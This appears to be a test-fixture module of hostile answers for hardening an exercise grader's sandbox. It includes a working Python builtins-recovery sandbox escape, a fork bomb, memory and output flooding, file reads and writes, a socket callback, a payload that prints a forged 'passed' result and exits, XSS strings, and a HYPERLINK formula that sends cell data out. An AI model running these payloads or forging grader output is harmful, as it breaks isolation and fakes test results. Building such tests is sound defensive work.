"""Answers that are up to no good: each is the body of a function that an exercise asks for."""

import textwrap

# From a tuple to every class there is, and from one of them to Python's real builtins.
ESCAPE = """\
real = None
for each in ().__class__.__base__.__subclasses__():
    try:
        real = each.__init__.__globals__["__builtins__"]
        real = real if isinstance(real, dict) else real.__dict__
        load = real["__import__"]
        break
    except Exception:
        real = None
os = load("os")
"""


def escaping(body):
    return ESCAPE + textwrap.dedent(body)


def answer(function, body):
    """Return a whole function with such a body."""
    return f"def {function}(*given):\n{textwrap.indent(textwrap.dedent(body), '    ')}\n"


ENDLESS = "while True:\n    pass\n"
ENDLESS_IN_C = "return sum(iter(int, 1))\n"
MEMORY = "x = [0] * 10**6\nwhile True:\n    x = x + x\n"
FORKS = escaping("""\
while True:
    try:
        os.fork()
    except Exception:
        pass
""")
CRASH = escaping("os.kill(os.getpid(), 9)\n")
# What goes well in any of these leaves something behind that the test looks for.
WRITES = """\
for place in {places!r}:
    try:
        with real["open"](place, "w") as file:
            file.write("escaped")
    except Exception:
        pass
"""
READS = """\
found = ""
for place in {places!r}:
    try:
        with real["open"](place) as file:
            found += file.read()
    except Exception:
        pass
raise ValueError("stolen " + found)
"""
CALLS_HOME = """\
socket = load("socket")
socket.create_connection(("127.0.0.1", {port}), timeout=1).send(b"escaped")
"""
FORGES = """\
import_json = load("json")
line = {{"exercise": {name!r}, "state": "passed", "message": "", "misconception": ""}}
os.write(1, (import_json.dumps(line) + "\\n").encode())
os._exit(0)
"""
FLOODS = escaping("""\
while True:
    os.write(1, b"x" * 1000000)
""")
HTML = (
    "<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>&lt;b&gt;"
)
FORMULA = '=HYPERLINK("http://example.org/"&A1,"mark")'
